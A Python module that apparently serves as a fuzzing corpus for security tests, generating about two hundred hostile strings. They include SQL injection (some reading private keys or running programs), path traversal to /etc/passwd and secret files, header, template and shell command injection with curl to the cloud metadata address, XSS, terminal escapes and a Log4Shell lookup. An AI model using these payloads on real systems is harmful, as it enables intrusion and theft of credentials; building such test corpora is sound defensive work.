"""Two hundred strings that mean something to a database, a file system, a template, a shell or a terminal."""

from itertools import product
from typing import Final

_SQL_TAILS: Final = (
    " OR 1=1 --",
    " OR 'a'='a",
    " UNION SELECT NULL, NULL --",
    " UNION SELECT private_key FROM signing_keys --",
    "; DROP TABLE symbols; --",
    "; SELECT pg_sleep(9); --",
    " AND (SELECT 1 FROM pg_sleep(9)) IS NULL --",
    "||(SELECT version())||",
    " AND 1=CAST((SELECT secret_hash FROM api_clients LIMIT 1) AS int) --",
    "; COPY api_clients TO PROGRAM 'id'; --",
    "/**/OR/**/1/**/=/**/1#",
    " ORDER BY 999 --",
)
SQL: Final = tuple(f"BTC{quote}{tail}" for quote, tail in product(("'", '"', "')", "$$", ""), _SQL_TAILS))

_UP: Final = ("../", "..\\", "....//", "%2e%2e%2f", "..%c0%af", "..;/")
_FILES: Final = ("etc/passwd", "proc/self/environ", "windows/win.ini", ".env", "app/secrets.json")
TRAVERSAL: Final = tuple(f"{up * 4}{file}" for up, file in product(_UP, _FILES))

_LINE_ENDS: Final = ("\r\n", "\n", "%0d%0a", "\u2028", "\x85")
_INJECTED: Final = ("X-Injected: yes", "Set-Cookie: a=b", "HTTP/1.1 200 OK", "<html>")
CRLF: Final = tuple(f"x{end}{line}" for end, line in product(_LINE_ENDS, _INJECTED))

_BRACKETS: Final = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% print %s %%}")
_EXPRESSIONS: Final = ("7*7", "config", "self.__class__", "''.__class__.__mro__", "__import__('os').system('id')")
TEMPLATES: Final = tuple(bracket % expression for bracket, expression in product(_BRACKETS, _EXPRESSIONS))

_SHELL: Final = (";%s", "|%s", "&&%s", "$(%s)", "`%s`")
_COMMANDS: Final = ("id", "sleep 9", "cat /etc/passwd", "curl http://169.254.169.254/")
COMMANDS: Final = tuple(f"x{shell % command}" for shell, command in product(_SHELL, _COMMANDS))

_MARKUP: Final = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "<!--", "]]>")
_ESCAPES: Final = tuple(f"x\x1b{tail}" for tail in ("[31m", "[2J", "]0;owned\x07", "[6n", "c", "P+q\x1b\\"))
_NUMBERS: Final = ("1e309", "-1e309", "nan(0)", "0x7fffffff", "9" * 40, "-0", "٣", "1_000")
_UNICODE: Final = (
    "\u202eevil",
    "\ufeffBTC",
    "\uff22\uff34\uff23'",
    "\u0000",
    "x\x00y",
    "\ud7ff",
    "\U0001d4b3",
    "ß'",
    "İ'",
    "\u200b'",
    "e\u0301" * 9,
)
_FORMATS: Final = ("%s%s%s%n", "%x" * 9, "{0.__class__}", "{}" * 9, "%00", "%ff%fe", "$ne[]", '{"$gt":""}')
_NAMES: Final = (
    "*)(uid=*))(|(uid=*",
    "__proto__[x]",
    "constructor.prototype",
    "file:///etc/passwd",
    "//169.254.169.254/",
)
_OTHERS: Final = (
    *_MARKUP,
    *_ESCAPES,
    *_NUMBERS,
    *_UNICODE,
    *_FORMATS,
    *_NAMES,
    "jndi:ldap://x/${jndi:ldap://x/a}",
    "x" * 150,
)

STRINGS: Final = (*SQL, *TRAVERSAL, *CRLF, *TEMPLATES, *COMMANDS, *_OTHERS)
